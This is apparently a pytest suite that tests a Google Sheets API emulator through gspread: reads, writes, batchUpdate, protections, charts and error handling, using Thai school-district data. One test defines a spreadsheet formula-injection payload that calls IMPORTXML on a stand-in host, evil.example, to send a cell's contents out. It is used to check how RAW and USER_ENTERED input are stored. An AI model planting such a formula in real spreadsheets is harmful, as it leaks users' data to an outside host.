"""Sheets API v4 through gspread's public API against the emulator: reads, render options, writes,
batchUpdate.
"""

import pytest
from gspread.exceptions import APIError
from gspread.utils import ValueInputOption, ValueRenderOption
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sync.gclient import sheets_url


@pytest.fixture
def sh(gc):
    return gc.create("สรุปเขต / district")


def error_of(exc_info) -> dict:
    return exc_info.value.response.json()["error"]


def test_open_by_key_and_worksheets(gc, sh):
    again = gc.open_by_key(sh.id)
    assert again.title == "สรุปเขต / district"
    assert again.locale == "en_US" and again.timezone == "Etc/GMT"
    ws = again.sheet1
    assert (ws.title, ws.id, ws.index, ws.row_count, ws.col_count) == ("Sheet1", 0, 0, 1000, 26)
    added = again.add_worksheet("ข้อมูลโรงเรียน", rows=50, cols=8)
    assert [w.title for w in again.worksheets()] == ["Sheet1", "ข้อมูลโรงเรียน"]
    assert again.worksheet("ข้อมูลโรงเรียน").id == added.id
    assert (added.row_count, added.col_count, added.index) == (50, 8, 1)


def test_get_render_options_and_major_dimension(sh):
    ws = sh.sheet1
    ws.update(
        [["name", "date", "amount", "ok", "calc"], ["บ้านหนองบัว", "2025-10-01", "1,234.5", "TRUE", "=C2*2"]],
        "A1",
        value_input_option=ValueInputOption.user_entered,
    )
    assert ws.get("A2:E2") == [["บ้านหนองบัว", "2025-10-01", "1,234.5", "TRUE", "2469"]]
    assert ws.get("A2:E2", value_render_option=ValueRenderOption.unformatted) == [
        ["บ้านหนองบัว", 45931, 1234.5, True, 2469]
    ]
    assert ws.get("A2:E2", value_render_option=ValueRenderOption.formula) == [
        ["บ้านหนองบัว", 45931, 1234.5, True, "=C2*2"]
    ]
    assert ws.get(
        "B2", value_render_option=ValueRenderOption.unformatted, date_time_render_option="FORMATTED_STRING"
    ) == [["2025-10-01"]]
    assert ws.get("A1:B2", major_dimension="COLUMNS") == [["name", "บ้านหนองบัว"], ["date", "2025-10-01"]]
    raw = ws.client.values_get(sh.id, "Sheet1!A1:Z9")
    assert raw == {
        "range": "Sheet1!A1:Z9",
        "majorDimension": "ROWS",
        "values": [
            ["name", "date", "amount", "ok", "calc"],
            ["บ้านหนองบัว", "2025-10-01", "1,234.5", "TRUE", "2469"],
        ],
    }
    assert ws.client.values_get(sh.id, "Sheet1!G10:H11") == {
        "range": "Sheet1!G10:H11",
        "majorDimension": "ROWS",
    }


def test_gaps_and_trailing_blanks(sh):
    ws = sh.sheet1
    ws.update([["a", "", "c"], ["", "", ""], ["", "e"]], "B2")
    assert ws.client.values_get(sh.id, "Sheet1")["values"] == [[], ["", "a", "", "c"], [], ["", "", "e"]]
    assert ws.client.values_get(sh.id, "Sheet1")["range"] == "Sheet1!A1:Z1000"
    assert ws.get("B2:D4", major_dimension="COLUMNS") == [["a"], ["", "", "e"], ["c"]]


def test_batch_get_one_request(gc, sh, emulator):
    sh.sheet1.update([[1, 2], [3, 4]], "A1")
    sh.add_worksheet("อื่น", 10, 5).update([["x"]], "A1")
    emulator.reset_counters()
    res = gc.http_client.values_batch_get(
        sh.id,
        ["Sheet1!A1:B2", "'อื่น'!A1:A3", "Sheet1!Z999"],
        params={"valueRenderOption": "UNFORMATTED_VALUE"},
    )
    assert res == {
        "spreadsheetId": sh.id,
        "valueRanges": [
            {"range": "Sheet1!A1:B2", "majorDimension": "ROWS", "values": [[1, 2], [3, 4]]},
            {"range": "'อื่น'!A1:A3", "majorDimension": "ROWS", "values": [["x"]]},
            {"range": "Sheet1!Z999", "majorDimension": "ROWS"},
        ],
    }
    assert emulator.counters()["by_endpoint"] == {"GET sheets.values.batchGet": 1}
    assert sh.sheet1.batch_get(["A1:A2", "B2"]) == [[["1"], ["3"]], [["4"]]]


def test_raw_versus_user_entered_formula_injection(sh, emulator):
    ws = sh.sheet1
    evil = '=IMPORTXML("http://evil.example/?d="&A1,"//a")'
    ws.update([[evil, "0123", "2025-10-01"]], "A1", value_input_option=ValueInputOption.raw)
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.formula) == [[evil, "0123", "2025-10-01"]]
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.unformatted) == [
        [evil, "0123", "2025-10-01"]
    ]
    ws.update([[evil, "0123", "2025-10-01"]], "A2", value_input_option=ValueInputOption.user_entered)
    assert ws.get("A2:C2", value_render_option=ValueRenderOption.formula) == [[evil, 123, 45931]]
    assert ws.get("A2:C2", value_render_option=ValueRenderOption.unformatted) == [["#NAME?", 123, 45931]]
    grid = ws.client.fetch_sheet_metadata(sh.id, params={"includeGridData": "true", "ranges": "Sheet1!A1:A2"})
    rows = grid["sheets"][0]["data"][0]["rowData"]
    assert rows[0]["values"][0]["userEnteredValue"] == {"stringValue": evil}
    assert rows[1]["values"][0]["userEnteredValue"] == {"formulaValue": evil}
    assert emulator.formula_cells(sh.id) == [("Sheet1", "A2", evil)]


def test_update_response_and_limits(sh):
    ws = sh.sheet1
    res = ws.update([["a", "b"], ["c", None]], "C3:D4")
    assert res == {
        "spreadsheetId": sh.id,
        "updatedRange": "Sheet1!C3:D4",
        "updatedRows": 2,
        "updatedColumns": 2,
        "updatedCells": 3,
    }
    with pytest.raises(APIError) as e:
        ws.update([["a"], ["b"], ["c"]], "A1:A2")
    assert error_of(e) == {
        "code": 400,
        "status": "INVALID_ARGUMENT",
        "message": "Requested writing within range ['Sheet1'!A1:A2], but tried writing to row [3]",
    }
    with pytest.raises(APIError) as e:
        ws.update([["x"]], "A1001")
    assert error_of(e)["message"] == (
        "Range ('Sheet1'!A1001) exceeds grid limits. Max rows: 1000, max columns: 26"
    )
    with pytest.raises(APIError) as e:
        ws.client.values_get(sh.id, "'Nope'!A1")
    assert error_of(e) == {
        "code": 400,
        "status": "INVALID_ARGUMENT",
        "message": "Unable to parse range: 'Nope'!A1",
    }


def test_append_overwrite_and_insert_rows(sh):
    ws = sh.sheet1
    ws.update([["id", "name"], [1, "a"], [2, "b"]], "A1")
    ws.update([["footer"]], "A10")
    res = sh.values_append("Sheet1!A1:B5", {"valueInputOption": "RAW"}, {"values": [[3, "c"]]})
    assert res == {
        "spreadsheetId": sh.id,
        "tableRange": "Sheet1!A1:B3",
        "updates": {
            "spreadsheetId": sh.id,
            "updatedRange": "Sheet1!A4:B4",
            "updatedRows": 1,
            "updatedColumns": 2,
            "updatedCells": 2,
        },
    }
    res = sh.values_append(
        "Sheet1!A1:B5",
        {"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"},
        {"values": [[4, "d"], [5, "e"]]},
    )
    assert res["updates"]["updatedRange"] == "Sheet1!A5:B6"
    assert ws.col_values(1) == ["id", "1", "2", "3", "4", "5", "", "", "", "", "", "footer"]
    assert gc_rowcount(sh) == 1002
    ws.append_row(["tail", "x"])  # gspread appends after the whole table (row 12 is the last used)
    assert ws.row_values(13) == ["tail", "x"]


def gc_rowcount(sh):
    return sh.client.fetch_sheet_metadata(sh.id)["sheets"][0]["properties"]["gridProperties"]["rowCount"]


def test_append_grows_grid(sh):
    ws = sh.add_worksheet("small", rows=2, cols=2)
    ws.append_rows([["a", "b", "c"], ["d", "e", "f"], ["g"]])
    meta = sh.client.fetch_sheet_metadata(sh.id)["sheets"][1]["properties"]["gridProperties"]
    assert meta == {"rowCount": 3, "columnCount": 3}
    assert ws.get_all_values() == [["a", "b", "c"], ["d", "e", "f"], ["g", "", ""]]


def test_clear_batch_clear_and_batch_update_values(sh):
    ws = sh.sheet1
    res = sh.values_batch_update(
        {
            "valueInputOption": "USER_ENTERED",
            "data": [
                {"range": "A1:B1", "values": [["1", "x"]]},
                {"range": "Sheet1!D1", "majorDimension": "COLUMNS", "values": [["c1", "c2"]]},
            ],
        }
    )
    assert res == {
        "spreadsheetId": sh.id,
        "totalUpdatedRows": 3,
        "totalUpdatedColumns": 3,
        "totalUpdatedCells": 4,
        "totalUpdatedSheets": 1,
        "responses": [
            {
                "spreadsheetId": sh.id,
                "updatedRange": "Sheet1!A1:B1",
                "updatedRows": 1,
                "updatedColumns": 2,
                "updatedCells": 2,
            },
            {
                "spreadsheetId": sh.id,
                "updatedRange": "Sheet1!D1:D2",
                "updatedRows": 2,
                "updatedColumns": 1,
                "updatedCells": 2,
            },
        ],
    }
    assert ws.get("A1:D2", value_render_option=ValueRenderOption.unformatted) == [
        [1, "x", "", "c1"],
        ["", "", "", "c2"],
    ]
    assert sh.values_clear("Sheet1!A1:A5") == {"spreadsheetId": sh.id, "clearedRange": "Sheet1!A1:A5"}
    assert sh.values_batch_clear(body={"ranges": ["D2", "Sheet1!B1"]}) == {
        "spreadsheetId": sh.id,
        "clearedRanges": ["Sheet1!D2", "Sheet1!B1"],
    }
    assert ws.get_all_values() == [["", "", "", "c1"]]
    with pytest.raises(APIError) as e:
        sh.values_batch_update({"data": [{"range": "A1", "values": [["1"]]}]})
    assert error_of(e)["message"] == "'valueInputOption' is required but not specified"


def test_batch_update_sheet_requests(sh):
    res = sh.batch_update(
        {
            "requests": [
                {
                    "addSheet": {
                        "properties": {
                            "title": "ภาพรวม",
                            "index": 0,
                            "gridProperties": {"rowCount": 20, "columnCount": 4},
                        }
                    }
                },
                {
                    "updateSheetProperties": {
                        "properties": {
                            "sheetId": 0,
                            "title": "Data",
                            "gridProperties": {"frozenRowCount": 1},
                        },
                        "fields": "title,gridProperties.frozenRowCount",
                    }
                },
                {
                    "updateSpreadsheetProperties": {
                        "properties": {"title": "ใหม่", "locale": "th_TH"},
                        "fields": "title,locale",
                    }
                },
            ]
        }
    )
    new_id = res["replies"][0]["addSheet"]["properties"]["sheetId"]
    assert res["replies"][0] == {
        "addSheet": {
            "properties": {
                "sheetId": new_id,
                "title": "ภาพรวม",
                "index": 0,
                "sheetType": "GRID",
                "gridProperties": {"rowCount": 20, "columnCount": 4},
            }
        }
    }
    assert res["replies"][1:] == [{}, {}]
    meta = sh.client.fetch_sheet_metadata(sh.id)
    assert meta["properties"]["title"] == "ใหม่" and meta["properties"]["locale"] == "th_TH"
    assert [(s["properties"]["title"], s["properties"]["index"]) for s in meta["sheets"]] == [
        ("ภาพรวม", 0),
        ("Data", 1),
    ]
    assert meta["sheets"][1]["properties"]["gridProperties"] == {
        "rowCount": 1000,
        "columnCount": 26,
        "frozenRowCount": 1,
    }
    dup = sh.duplicate_sheet(0, insert_sheet_index=2, new_sheet_name="Data copy")
    assert (dup.title, dup.index) == ("Data copy", 2)
    sh.del_worksheet(sh.worksheet("ภาพรวม"))
    assert [w.title for w in sh.worksheets()] == ["Data", "Data copy"]


def test_batch_update_is_atomic_and_errors_like_google(sh):
    with pytest.raises(APIError) as e:
        sh.batch_update(
            {
                "requests": [
                    {"addSheet": {"properties": {"title": "X"}}},
                    {"addSheet": {"properties": {"title": "x"}}},
                ]
            }
        )
    assert error_of(e) == {
        "code": 400,
        "status": "INVALID_ARGUMENT",
        "message": 'Invalid requests[1].addSheet: A sheet with the name "x" already exists. '
        "Please enter another name.",
    }
    assert [w.title for w in sh.worksheets()] == ["Sheet1"]
    with pytest.raises(APIError) as e:
        sh.batch_update({"requests": [{"deleteSheet": {"sheetId": 0}}]})
    assert error_of(e)["message"] == (
        "Invalid requests[0].deleteSheet: You can't remove all the visible sheets in a document."
    )


def test_unsupported_requests_are_not_retryable(gc, sh):
    with pytest.raises(APIError) as e:
        sh.batch_update({"requests": [{"makeCoffee": {}}]})
    assert e.value.response.status_code == 400
    assert error_of(e) == {
        "code": 400,
        "status": "INVALID_ARGUMENT",
        "message": "Invalid JSON payload received. Unknown name \"makeCoffee\" at 'requests[0]': "
        "Cannot find field.",
    }
    with pytest.raises(APIError) as e:
        sh.batch_update({"requests": [{"sortRange": {"range": {"sheetId": 0}}}]})
    assert e.value.response.status_code == 501
    assert error_of(e)["status"] == "UNIMPLEMENTED"
    with pytest.raises(APIError) as e:
        gc.http_client.request("get", sheets_url(f"{sh.id}:getByDataFilter"))
    assert e.value.response.status_code == 501
    with pytest.raises(APIError) as e:
        gc.http_client.request(
            "get", sheets_url(f"{sh.id}/values/A1"), params={"valueRenderOption": "PRETTY"}
        )
    assert error_of(e) == {
        "code": 400,
        "status": "INVALID_ARGUMENT",
        "message": "Invalid value at 'value_render_option' (type.googleapis.com/google.apps.sheets.v4."
        'ValueRenderOption), "PRETTY"',
    }


def test_protected_ranges_validation_and_grid_data(sh):
    res = sh.batch_update(
        {
            "requests": [
                {
                    "addProtectedRange": {
                        "protectedRange": {
                            "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                            "description": "หัวตาราง",
                        }
                    }
                },
                {
                    "setDataValidation": {
                        "range": {
                            "sheetId": 0,
                            "startRowIndex": 1,
                            "endRowIndex": 3,
                            "startColumnIndex": 2,
                            "endColumnIndex": 3,
                        },
                        "rule": {
                            "condition": {
                                "type": "ONE_OF_LIST",
                                "values": [{"userEnteredValue": "ผ่าน"}, {"userEnteredValue": "ไม่ผ่าน"}],
                            },
                            "strict": True,
                            "showCustomUi": True,
                        },
                    }
                },
                {
                    "repeatCell": {
                        "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1, "endColumnIndex": 2},
                        "cell": {"userEnteredFormat": {"textFormat": {"bold": True}}},
                        "fields": "userEnteredFormat.textFormat.bold",
                    }
                },
            ]
        }
    )
    protected = res["replies"][0]["addProtectedRange"]["protectedRange"]
    owner = "khet-sync@khet-district.iam.gserviceaccount.com"
    assert protected == {
        "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
        "description": "หัวตาราง",
        "protectedRangeId": 1,
        "editors": {"users": [owner]},
        "requestingUserCanEdit": True,
    }
    assert sh.list_protected_ranges(0) == [protected]
    meta = sh.client.fetch_sheet_metadata(sh.id, params={"includeGridData": "true", "ranges": "Sheet1!A1:C3"})
    data = meta["sheets"][0]["data"][0]
    assert data["rowData"][0] == {"values": [{"userEnteredFormat": {"textFormat": {"bold": True}}}] * 2}
    assert data["rowData"][1]["values"][2]["dataValidation"]["condition"]["type"] == "ONE_OF_LIST"
    assert len(data["rowMetadata"]) == 3 and len(data["columnMetadata"]) == 3
    narrow = sh.client.fetch_sheet_metadata(sh.id, params={"fields": "sheets(properties(title))"})
    assert narrow == {"sheets": [{"properties": {"title": "Sheet1"}}]}
    values_only = sh.client.fetch_sheet_metadata(
        sh.id, params={"ranges": "Sheet1!A1:B1", "fields": "sheets(data(rowData(values(userEnteredFormat))))"}
    )
    assert values_only == {
        "sheets": [
            {"data": [{"rowData": [{"values": [{"userEnteredFormat": {"textFormat": {"bold": True}}}] * 2}]}]}
        ]
    }


def test_update_cells_formula_and_named_range(sh):
    sh.batch_update(
        {
            "requests": [
                {
                    "updateCells": {
                        "start": {"sheetId": 0, "rowIndex": 0, "columnIndex": 0},
                        "rows": [
                            {
                                "values": [
                                    {"userEnteredValue": {"numberValue": 2}},
                                    {"userEnteredValue": {"formulaValue": "=SUM(A1:A1,1)"}},
                                ]
                            }
                        ],
                        "fields": "userEnteredValue",
                    }
                },
                {
                    "addNamedRange": {
                        "namedRange": {
                            "name": "total",
                            "range": {
                                "sheetId": 0,
                                "startRowIndex": 0,
                                "endRowIndex": 1,
                                "startColumnIndex": 0,
                                "endColumnIndex": 2,
                            },
                        }
                    }
                },
                {
                    "insertDimension": {
                        "range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}
                    }
                },
            ]
        }
    )
    ws = sh.sheet1
    # formulas keep their text when columns move (the emulator does not rewrite references)
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.formula) == [["", 2, "=SUM(A1:A1,1)"]]
    assert ws.col_count == 27
    # the named range moved right with its cells
    assert sh.values_get("total") == {
        "range": "Sheet1!B1:C1",
        "majorDimension": "ROWS",
        "values": [["2", "1"]],
    }


def test_copy_sheet_to_another_spreadsheet(gc, sh):
    sh.sheet1.update([["แม่แบบ", 1]], "A1")
    other = gc.create("ปลายทาง")
    props = sh.sheet1.copy_to(other.id)
    assert props == {
        "sheetId": props["sheetId"],
        "title": "Copy of Sheet1",
        "index": 1,
        "sheetType": "GRID",
        "gridProperties": {"rowCount": 1000, "columnCount": 26},
    }
    again = sh.sheet1.copy_to(other.id)
    assert again["title"] == "Copy of Sheet1 2" and len({0, props["sheetId"], again["sheetId"]}) == 3
    assert other.worksheet("Copy of Sheet1").get_all_values() == [["แม่แบบ", "1"]]


def test_formatting_requests_show_in_spreadsheet_get(sh):
    sh.sheet1.update([["a", "b", "c"], [1, 2, 3], [4, 5, 6]], "A1")
    res = sh.batch_update(
        {
            "requests": [
                {
                    "updateDimensionProperties": {
                        "range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 2},
                        "properties": {"pixelSize": 240},
                        "fields": "pixelSize",
                    }
                },
                {
                    "mergeCells": {
                        "range": {
                            "sheetId": 0,
                            "startRowIndex": 5,
                            "endRowIndex": 6,
                            "startColumnIndex": 0,
                            "endColumnIndex": 3,
                        },
                        "mergeType": "MERGE_ALL",
                    }
                },
                {
                    "updateBorders": {
                        "range": {
                            "sheetId": 0,
                            "startRowIndex": 0,
                            "endRowIndex": 1,
                            "startColumnIndex": 0,
                            "endColumnIndex": 2,
                        },
                        "bottom": {"style": "SOLID"},
                    }
                },
                {
                    "addConditionalFormatRule": {
                        "index": 0,
                        "rule": {
                            "ranges": [{"sheetId": 0, "startColumnIndex": 2, "endColumnIndex": 3}],
                            "booleanRule": {
                                "condition": {"type": "BLANK"},
                                "format": {"backgroundColor": {"red": 1}},
                            },
                        },
                    }
                },
                {
                    "setBasicFilter": {
                        "filter": {"range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 3}}
                    }
                },
                {
                    "deleteDimension": {
                        "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
                    }
                },
                {"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 4}},
                {
                    "autoResizeDimensions": {
                        "dimensions": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
                    }
                },
            ]
        }
    )
    assert res["replies"] == [{}] * 8
    assert sh.sheet1.get_all_values() == [["a", "b", "c"], ["4", "5", "6"]]
    meta = sh.client.fetch_sheet_metadata(sh.id, params={"includeGridData": "true", "ranges": "Sheet1!A1:C1"})
    sheet = meta["sheets"][0]
    assert sheet["properties"]["gridProperties"] == {"rowCount": 999, "columnCount": 30}
    # deleting row 2 moved the merge up and shrank the filter
    assert sheet["merges"] == [
        {"sheetId": 0, "startRowIndex": 4, "endRowIndex": 5, "startColumnIndex": 0, "endColumnIndex": 3}
    ]
    assert sheet["conditionalFormats"][0]["booleanRule"]["condition"] == {"type": "BLANK"}
    assert sheet["basicFilter"] == {"range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 2}}
    data = sheet["data"][0]
    assert data["columnMetadata"] == [{"pixelSize": 240}, {"pixelSize": 240}, {"pixelSize": 100}]
    assert [c.get("userEnteredFormat") for c in data["rowData"][0]["values"]] == [
        {"borders": {"bottom": {"style": "SOLID"}}},
        {"borders": {"bottom": {"style": "SOLID"}}},
        None,
    ]
    assert data["rowData"][0]["values"][0]["formattedValue"] == "a"
    sh.batch_update(
        {
            "requests": [
                {"clearBasicFilter": {"sheetId": 0}},
                {"deleteConditionalFormatRule": {"sheetId": 0, "index": 0}},
                {"unmergeCells": {"range": {"sheetId": 0}}},
            ]
        }
    )
    sheet = sh.client.fetch_sheet_metadata(sh.id)["sheets"][0]
    assert set(sheet) == {"properties"}


def test_inserting_and_deleting_rows_moves_protection(sh):
    res = sh.batch_update(
        {
            "requests": [
                {
                    "addProtectedRange": {
                        "protectedRange": {
                            "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                            "unprotectedRanges": [
                                {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1, "startColumnIndex": 3}
                            ],
                        }
                    }
                }
            ]
        }
    )
    pid = res["replies"][0]["addProtectedRange"]["protectedRange"]["protectedRangeId"]
    sh.batch_update(
        {
            "requests": [
                {
                    "insertDimension": {
                        "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 0, "endIndex": 2}
                    }
                },
                {
                    "insertDimension": {
                        "range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}
                    }
                },
            ]
        }
    )
    (moved,) = sh.list_protected_ranges(0)
    assert moved["range"] == {"sheetId": 0, "startRowIndex": 2, "endRowIndex": 3}
    assert moved["unprotectedRanges"] == [
        {"sheetId": 0, "startRowIndex": 2, "endRowIndex": 3, "startColumnIndex": 4}
    ]
    sh.batch_update(
        {
            "requests": [
                {
                    "deleteDimension": {
                        "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 4}
                    }
                }
            ]
        }
    )
    assert sh.list_protected_ranges(0) == [] and pid == 1
    assert sh.sheet1.row_count == 1000 - 1


def test_malformed_bodies_are_400s(gc, sh):
    for body, message in (
        ({"values": "abc"}, "Invalid value at 'data.values' (type.googleapis.com/google.protobuf.ListValue)"),
        ({"values": [[{"a": 1}]]}, "Invalid values[0][0]: struct_value"),
    ):
        with pytest.raises(APIError) as e:
            gc.http_client.values_update(sh.id, "A1", {"valueInputOption": "RAW"}, body)
        assert error_of(e) == {"code": 400, "status": "INVALID_ARGUMENT", "message": message}
    with pytest.raises(APIError) as e:
        gc.http_client.request(
            "put",
            sheets_url(f"{sh.id}/values/A1"),
            params={"valueInputOption": "RAW"},
            data=b"{not json",
            headers={"Content-Type": "application/json"},
        )
    assert e.value.response.status_code == 400
    assert error_of(e)["message"].startswith("Invalid JSON payload received.")
    assert sh.sheet1.get_all_values() == [[]]


def test_values_in_response_and_create_with_data(gc, sh):
    res = gc.http_client.values_update(
        sh.id,
        "Sheet1!A1",
        {
            "valueInputOption": "USER_ENTERED",
            "includeValuesInResponse": "true",
            "responseValueRenderOption": "UNFORMATTED_VALUE",
        },
        {"values": [["2025-10-01", "x"]]},
    )
    assert res["updatedData"] == {"range": "Sheet1!A1:B1", "majorDimension": "ROWS", "values": [[45931, "x"]]}
    made = gc.http_client.request(
        "post",
        sheets_url("").rstrip("/"),
        json={
            "properties": {"title": "ทะเบียน", "locale": "th_TH", "timeZone": "Asia/Bangkok"},
            "sheets": [
                {
                    "properties": {"title": "รายชื่อ", "gridProperties": {"rowCount": 5, "columnCount": 3}},
                    "data": [
                        {
                            "startRow": 1,
                            "rowData": [
                                {
                                    "values": [
                                        {"userEnteredValue": {"stringValue": "ก"}},
                                        {"userEnteredValue": {"numberValue": 2}},
                                    ]
                                }
                            ],
                        }
                    ],
                }
            ],
        },
    ).json()
    assert made["properties"]["locale"] == "th_TH" and made["properties"]["timeZone"] == "Asia/Bangkok"
    assert made["sheets"][0]["properties"] == {
        "sheetId": 0,
        "title": "รายชื่อ",
        "index": 0,
        "sheetType": "GRID",
        "gridProperties": {"rowCount": 5, "columnCount": 3},
    }
    opened = gc.open_by_key(made["spreadsheetId"])
    assert opened.sheet1.get_all_values() == [["", ""], ["ก", "2"]]
    opened.sheet1.update([["1/10/2025"]], "A3", value_input_option="USER_ENTERED")  # th_TH: day first
    assert opened.sheet1.get("A3", value_render_option="UNFORMATTED_VALUE") == [[45931]]


cells = st.one_of(
    st.text(min_size=1, max_size=12),
    st.integers(-(10**9), 10**9),
    st.booleans(),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(cells, min_size=3, max_size=3), min_size=1, max_size=4))
def test_raw_round_trip_keeps_every_value_exactly(emulator, gc, sh, rows):
    """Whatever a school's cells hold, RAW in and UNFORMATTED out gives it back unchanged."""
    emulator.configure(user_quota=10**6, project_quota=10**6)  # one fixture for all examples
    gc.http_client.values_clear(sh.id, "Sheet1")
    gc.http_client.values_update(sh.id, "Sheet1!A1", {"valueInputOption": "RAW"}, {"values": rows})
    back = gc.http_client.values_get(sh.id, "Sheet1!A1:C4", {"valueRenderOption": "UNFORMATTED_VALUE"})
    assert back["values"] == rows
    assert (
        gc.http_client.values_get(sh.id, "Sheet1!A1:C4", {"valueRenderOption": "FORMULA"})["values"] == rows
    )


def _bar_chart(sheet_id: int, end_row: int = 4, **position) -> dict:
    rng = {"sheetId": sheet_id, "startRowIndex": 0, "endRowIndex": end_row}
    return {"addChart": {"chart": {
        "spec": {"title": "ร้อยละที่ส่ง", "basicChart": {
            "chartType": "BAR", "headerCount": 1,
            "domains": [{"domain": {"sourceRange": {"sources": [dict(rng, startColumnIndex=0, endColumnIndex=1)]}}}],
            "series": [{"series": {"sourceRange": {"sources": [dict(rng, startColumnIndex=1, endColumnIndex=2)]}},
                        "targetAxis": "BOTTOM_AXIS"}]}},
        "position": position or {"overlayPosition": {"anchorCell": {"sheetId": sheet_id, "rowIndex": 0,
                                                                    "columnIndex": 3}, "widthPixels": 600}}}}}


def test_charts_are_added_kept_returned_copied_and_deleted(gc, sh):
    ws = sh.sheet1
    ws.update([["รายงาน", "ร้อยละ"], ["แผน", 80], ["ไตรมาส 1", 75], ["ไตรมาส 2", 0]], "A1")
    reply = sh.batch_update({"requests": [_bar_chart(ws.id)]})["replies"][0]["addChart"]["chart"]
    chart_id = reply["chartId"]
    assert isinstance(chart_id, int) and reply["spec"]["basicChart"]["chartType"] == "BAR"
    got = gc.http_client.fetch_sheet_metadata(sh.id, params={"fields": "sheets(properties.sheetId,charts)"})
    charts = got["sheets"][0]["charts"]
    assert charts == [reply]  # kept and returned in the request's own shape, with its id
    # duplicateSheet copies the chart with a new id, reading the copy's cells.
    dup = sh.batch_update({"requests": [{"duplicateSheet": {"sourceSheetId": ws.id, "newSheetName": "copy"}}]})
    new_id = dup["replies"][0]["duplicateSheet"]["properties"]["sheetId"]
    got = gc.http_client.fetch_sheet_metadata(sh.id, params={"fields": "sheets(properties.sheetId,charts)"})
    copied = got["sheets"][1]["charts"][0]
    assert copied["chartId"] != chart_id
    assert copied["spec"]["basicChart"]["domains"][0]["domain"]["sourceRange"]["sources"][0]["sheetId"] == new_id
    sh.batch_update({"requests": [{"deleteEmbeddedObject": {"objectId": chart_id}}]})
    got = gc.http_client.fetch_sheet_metadata(sh.id, params={"fields": "sheets(properties.sheetId,charts)"})
    assert "charts" not in got["sheets"][0] and len(got["sheets"][1]["charts"]) == 1


def test_bad_charts_are_refused_whole(gc, sh):
    ws = sh.sheet1
    bad_type = _bar_chart(ws.id)
    bad_type["addChart"]["chart"]["spec"]["basicChart"]["chartType"] = "PIE"
    outside = _bar_chart(ws.id, end_row=5000)
    no_position = _bar_chart(ws.id)
    del no_position["addChart"]["chart"]["position"]
    for req in (bad_type, outside, no_position):
        with pytest.raises(APIError) as e:
            sh.batch_update({"requests": [_bar_chart(ws.id), req]})
        assert e.value.response.status_code == 400, req
    with pytest.raises(APIError) as e:
        sh.batch_update({"requests": [_bar_chart(ws.id, newSheet=True)]})
    assert e.value.response.status_code == 501
    got = gc.http_client.fetch_sheet_metadata(sh.id, params={"fields": "sheets(properties.sheetId,charts)"})
    assert "charts" not in got["sheets"][0]  # the good first request went with the bad one (atomic)
